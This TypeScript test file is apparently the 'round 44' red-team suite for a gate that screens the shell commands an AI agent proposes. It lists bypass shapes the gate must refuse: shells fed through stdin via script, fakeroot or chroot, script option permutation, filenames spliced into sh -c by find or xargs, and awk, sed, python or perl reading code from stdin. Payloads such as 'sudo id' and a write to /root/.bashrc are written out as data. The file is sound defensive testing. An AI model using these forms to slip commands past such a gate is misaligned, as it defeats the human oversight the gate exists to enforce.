// Round 44 (docs/floor.md, "Round 44 (redteam-r44)"): what the floor admitted on the base (64dbb7be), each a
// class read at its cause: (a) a program that, given no command, starts a shell on its standard input
// (`echo CMD | script -q /dev/null`, `| fakeroot`, `| chroot /`, `| sg GROUP`); (b) util-linux script's
// options after its file (`script /dev/null -qc CMD`: getopt permutes them); (c) a name find or xargs lists
// spliced into a shell's `-c` script (`find . -exec sh -c 'echo {}' \;`: a file named `$(sudo id)` runs).
// (d) an interpreter's valued option read as its script file (`| python3 -X dev`, `| node -r x`, `| perl -I
// lib`); (e) awk's or sed's program file named as the input (`| awk -f -`, `| sed -f /dev/stdin`). Real
// util-linux script, bash, find, xargs, python3, perl, awk and sed the oracle, unprivileged in a scratch home.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import fc from 'fast-check';
import { sampleOf } from './helpers/deep.js';
import * as floor from './helpers/redteam-floor.js';

/** Programs that start a shell on their input when given no command (shell-vocabulary.ts BARE_SHELLS). */
const BARE: readonly string[] = [
  'script -q /dev/null',
  'script -q',
  'script',
  'script -qef /dev/null',
  'script -a out.log',
  'script -t 2>t.log -q /dev/null',
  'fakeroot',
  'fakeroot --',
  'fakeroot -u',
  'chroot /',
  'chroot --userspec=1000:1000 /',
  'unshare',
  'unshare -r',
  'sg staff',
  'firejail --quiet',
  'busybox script -q /dev/null',
  'nice script -q /dev/null',
];

test('a program that starts a shell when given no command runs what its input shows', () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom(...BARE),
      fc.constantFrom(...floor.STDIN_DELIVERIES),
      fc.constantFrom(...floor.STDIN_COMMANDS),
    ),
    ([p, deliver, line]) => deliver(p, line),
  );
});

test('a program that starts a shell on an input the text does not show is refused, as `ls | sh` is', () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom('ls', 'base64 -d x', 'curl -s https://h/x', 'rev f', 'cat f | tr a-z n-za-m'),
      fc.constantFrom(...BARE),
    ),
    ([feed, p]) => `${feed} | ${p}`,
  );
});

/** script's command given after its file operand, or clustered and cut short (util-linux permutes its options). */
const SCRIPT_COMMANDS: readonly ((cmd: string) => string)[] = [
  (c) => `script /dev/null -qc ${floor.shellQuote(c)}`,
  (c) => `script /dev/null -c ${floor.shellQuote(c)}`,
  (c) => `script out.log -qec ${floor.shellQuote(c)}`,
  (c) => `script -q out.log --comm ${floor.shellQuote(c)}`,
  (c) => `script /dev/null --co=${floor.shellQuote(c)}`,
  (c) => `script -q /dev/null -qc${floor.shellQuote(c)}`,
  (c) => `script -T t.log /dev/null -c ${floor.shellQuote(c)}`,
];

test("script's command given after its file, in a cluster or cut short, is read as its command", () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom(...SCRIPT_COMMANDS),
      fc.constantFrom(...floor.STDIN_COMMANDS),
      fc.constantFrom('', 'cd src && '),
    ),
    ([shape, c, front]) => `${front}${shape(c)}`,
  );
});

/** A shell's `-c` script holding find's `{}`: each name find lists becomes code. */
const FIND_SCRIPTS = [
  'echo {}',
  'wc -l "{}"',
  "cat '{}' | head",
  '{}',
  'test -f {} && echo ok',
  'grep -q x {}; echo {}',
];

test("a name find lists spliced into a shell's script is code the text does not show", () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom('find .', "find . -name '*.txt'", 'find src -type f', 'find . -maxdepth 2 -newer x'),
      fc.constantFrom('-exec', '-execdir', '-ok'),
      fc.constantFrom('sh -c', 'bash -c', 'bash -lc', 'dash -c', '/bin/sh -c', 'zsh -c'),
      fc.constantFrom(...FIND_SCRIPTS),
      fc.constantFrom('\\;', "';'", '+'),
    ),
    ([find, exec, shell, script, end]) => `${find} ${exec} ${shell} ${floor.shellQuote(script)} ${end}`,
  );
});

test("a name xargs or parallel reads from an unseen input, spliced into a shell's script, is refused", () => {
  floor.everyRefused(
    fc.tuple(
      fc.constantFrom('ls', 'find . -name "*.md"', 'git ls-files', 'find . -print0'),
      fc.constantFrom(
        (s: string) => `xargs -I{} sh -c ${floor.shellQuote(s)}`,
        (s: string) => `xargs -0 -I{} bash -c ${floor.shellQuote(s)}`,
        (s: string) => `xargs -i sh -c ${floor.shellQuote(s)}`,
        (s: string) => `xargs --replace={} sh -c ${floor.shellQuote(s)}`,
        (s: string) => `xargs -I % sh -c ${floor.shellQuote(s.replace(/\{\}/g, '%'))}`,
        (s: string) => `parallel sh -c ${floor.shellQuote(s)}`,
        (s: string) => `parallel bash -c ${floor.shellQuote(s.replace(/\{\}/g, '{.}'))}`,
      ),
      fc.constantFrom(...FIND_SCRIPTS.filter((s) => s !== '{}')),
    ),
    ([feed, run, script]) => `${feed} | ${run(script)}`,
  );
});

/** An interpreter's valued option before its input program (`python3 -X dev`): the word is the option's. */
const VALUED_FRONTS: readonly (readonly [string, string])[] = [
  ['python3 -X dev', 'import os; os.system("sudo id")'],
  ['python3 -W ignore', 'import os; os.system("sudo id")'],
  ['python3 -X importtime -W error', 'import subprocess; subprocess.run("sudo id", shell=True)'],
  ['python3 --check-hash-based-pycs never', 'import os; os.system("sudo id")'],
  ['node -r ./x.js', 'require("child_process").execSync("sudo id")'],
  ['node --title t', 'require("child_process").execSync("sudo id")'],
  ['node --import ./x.mjs', 'require("child_process").execSync("sudo id")'],
  ['perl -I lib', 'system("sudo id")'],
  ['ruby -r json', 'system("sudo id")'],
];

test("an interpreter's valued option is no script file: the program on its input is read", () => {
  floor.everyRefused(
    fc.tuple(fc.constantFrom(...VALUED_FRONTS), fc.constantFrom(...floor.STDIN_DELIVERIES)),
    ([[p, code], deliver]) => deliver(p, code),
  );
});

/** awk's and sed's program file named as the standard input: the input is the program. */
const PROGRAM_FROM_INPUT: readonly (readonly [string, string])[] = [
  ['awk -f -', 'BEGIN{system("sudo id")}'],
  ['mawk -f /dev/stdin', 'BEGIN{system("sudo id")}'],
  ['gawk --file=-', 'BEGIN{system("sudo id")}'],
  ['awk -f- data.txt', 'BEGIN{system("sudo id")}'],
  ['awk -f /dev/fd/0', 'BEGIN{print "x" > "/root/.bashrc"}'],
  ['sed -f - x', '1e sudo id'],
  ['sed -nf /dev/stdin x', '1e sudo id'],
  ['gsed --file=- x', 's/.*/sudo id/e'],
];

test("awk's or sed's program file named as its input is the program the input shows", () => {
  floor.everyRefused(
    fc.tuple(fc.constantFrom(...PROGRAM_FROM_INPUT), fc.constantFrom(...floor.STDIN_DELIVERIES)),
    ([[p, code], deliver]) => deliver(p, code),
  );
  floor.everyRefused(fc.constantFrom(...PROGRAM_FROM_INPUT), ([p]) => `base64 -d prog.b64 | ${p}`);
});

test('the ordinary neighbours stay admitted', () => {
  floor.allAdmitted([
    'script -q /dev/null -c "npm test"',
    "script -q -c 'npm test' /dev/null",
    "script -qc 'make' out.log",
    'script --command=make /dev/null',
    'script -q /dev/null',
    'chroot / ls',
    'fakeroot dpkg-deb -b pkg',
    'fakeroot make install DESTDIR=./out',
    "sg staff -c 'make'",
    "echo a b | xargs -I{} sh -c 'echo {}'",
    `find . -exec sh -c 'wc -l "$1"' _ {} \\;`,
    `find . -name '*.ts' -exec sh -c 'for f; do wc -l "$f"; done' _ {} +`,
    `ls | xargs -I{} sh -c 'wc -l "$1"' _ {}`,
    `ls | xargs sh -c 'echo "$@"' _`,
    'ls | parallel gzip',
    "ls | parallel 'gzip {}'",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's ${HOME}, not a placeholder
    "ls | parallel sh -c 'echo ${HOME}'",
    'find . -exec echo {} \\;',
    'python3 -X dev script.py',
    'python3 -W ignore -m pytest',
    'node -r ts-node/register app.ts',
    "echo 'print(1)' | python3 -X dev",
    "echo 's/a/b/' | sed -f - x",
    'awk -f prog.awk data',
    "awk -F, '{print $1}' f.csv",
  ]);
});

test('through the real gate preflight: a bare script on a pipe and a find-spliced name are refused', () => {
  for (const command of ["echo 'sudo id' | script -q /dev/null", "find . -exec sh -c 'echo {}' \\;"])
    assert.match(floor.processVerdict('Bash', { command }), /verdict=DENY/, command);
  assert.match(floor.processVerdict('Bash', { command: "script -qc 'npm test' /dev/null" }), /verdict=ALLOW/);
});

/** 200 kB commands built from the new readings' literals and separators: each decided in bounded CPU. */
const LONG: readonly (readonly [string, string, string])[] = [
  ['script /dev/null ', '-q ', ''],
  ['script ', '--log-io x ', ''],
  ["find . -exec sh -c '", '{}{', "' \\;"],
  ["ls | parallel sh -c '", '{/.{=', "'"],
  ["ls | xargs -I{} sh -c '", '{', "'"],
  ['echo x | ', 'fakeroot ', ''],
  ['echo x | awk -', 'vf', ' -f -'],
  ['echo x | sed ', '-nf x ', '-f -'],
  ['echo x | python3 ', '-X dev ', ''],
];

test('r44 linear: each new reading decides a 200 kB command built from its literals in bounded CPU', () => {
  // CI decides a fixed half of them, GATE_DEEP=1 all (docs/testing.md, round 69).
  for (const [head, unit, tail] of sampleOf(LONG, Math.ceil(LONG.length / 2))) {
    const ms = floor.decideCpuMs(`${head}${unit.repeat(Math.ceil(200_000 / unit.length))}${tail}`);
    assert.ok(ms < 2500, `${ms.toFixed(0)} ms of CPU for ${JSON.stringify(head + unit)}...`);
  }
});

/** The oracle: real util-linux script, bash, find and xargs, as `nobody` in a scratch home. */
const ORACLE = [
  "echo 'sudo id' | script -q /dev/null",
  "script -q /dev/null <<< 'sudo id'",
  "script /dev/null -qc 'sudo id'",
  "touch 'a$(sudo id)'; find . -name 'a*' -exec sh -c 'echo {}' \\;",
  "touch 'b$(sudo id)'; ls | xargs -I{} sh -c 'echo {}'",
  `echo 'import os; os.system("sudo id")' | python3 -X dev`,
  `echo 'system("sudo id")' | perl -I lib`,
  `echo 'BEGIN{system("sudo id")}' | awk -f -`,
  "echo '1e sudo id' | sed -f - x",
];

test('the oracle: real script, find and xargs run each refused case', {
  skip: floor.oracleSkip('round 44') || (!floor.has('script') && 'util-linux script not installed'),
}, () => {
  floor.inScratch(
    'gate-r44-',
    ['bash', 'sh', 'script', 'find', 'xargs', 'touch', 'ls', 'awk', 'sed', 'perl'],
    (dir) => {
      fs.symlinkSync(floor.UNPRIVILEGED_PYTHON, join(dir, 'python3'));
      fs.writeFileSync(join(dir, 'x'), 'x\n');
      floor.eachRanAndRefused(ORACLE, floor.runConfined(dir, floor.caseLines(ORACLE), 20));
    },
  );
});
